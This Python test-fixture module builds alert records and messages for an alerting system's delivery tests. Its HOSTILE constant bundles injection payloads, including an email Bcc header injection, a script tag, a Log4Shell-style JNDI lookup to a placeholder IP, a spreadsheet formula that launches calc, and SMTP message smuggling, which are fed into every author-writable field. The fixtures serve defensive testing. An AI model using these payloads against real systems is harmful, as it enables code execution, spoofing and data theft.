"""Notices and messages made for the tests; some of them as hostile as records can be."""

from __future__ import annotations

from dataclasses import replace

from alerts.making import ALICE, NOON, detection, sighting
from vedette.alerts.delivery import Reason
from vedette.alerts.evidence import Evidence
from vedette.alerts.notice import Notice
from vedette.alerts.record import AlertRecord
from vedette.detections.definition import Severity
from vedette.senders import Message

HOSTILE = (
    "x\r\nBcc: mallory@example.com\r\n\r\n<script>alert(1)</script><!channel> <@U1> `*_~ \x1b[2J"
    "\u202eevil\u200b\ud800\0\u2028 ${jndi:ldap://192.0.2.1/x} =cmd|' /C calc'!A0\n.\nMAIL FROM:<m@example.com>"
)


def record(number: int = 1, *, words: str = "", account: str = "111122223333") -> AlertRecord:
    """An alert; `words` stand wherever a record's author may write."""
    seen = sighting(
        0,
        number,
        account=account,
        user_agent=words or "aws-cli/2.0",
        error=words,
        event_name=words or "GetSecretValue",
        resources=(words,) if words else (),
        actor=replace(ALICE, name=words or "alice", session=words or None),
    )
    return AlertRecord(
        id=f"secret-read-{number:08x}",
        detection="secret-read",
        title=words or "A secret was read",
        severity=Severity.HIGH,
        group=(words or "alice",),
        opened=NOON + 60,
        closed=None,
        reason="Threshold Crossed: 1 datapoint [1.0 (21/11/26 10:00:00)] was greater than the threshold (0.0).",
        minutes=(NOON, NOON),
        evidence=Evidence.of([seen]),
        incident="incident-1",
        created=NOON + 61,
        changed=NOON + 61,
    )


def notice(*alerts: AlertRecord, reason: Reason = Reason.FIRST, key: str = "mail/incident-1/first") -> Notice:
    return Notice(
        key=key,
        reason=reason,
        alerts=alerts or (record(),),
        detections={"secret-read": detection("secret-read")},
        channel="mail",
        now=NOON + 62,
    )


def message(
    *alerts: AlertRecord, reason: Reason = Reason.FIRST, key: str = "mail/incident-1/first", thread: str = ""
) -> Message:
    return Message(key, notice(*alerts, reason=reason, key=key), thread)


def hostile(key: str = "mail/incident-1/first") -> Message:
    return message(record(words=HOSTILE), record(2, words=HOSTILE * 400), key=key)


def empty(reason: Reason = Reason.TEST) -> Message:
    """A message about no alert: a test, a summary."""
    return Message("test/1", replace(notice(reason=reason, key="test/1"), alerts=()))
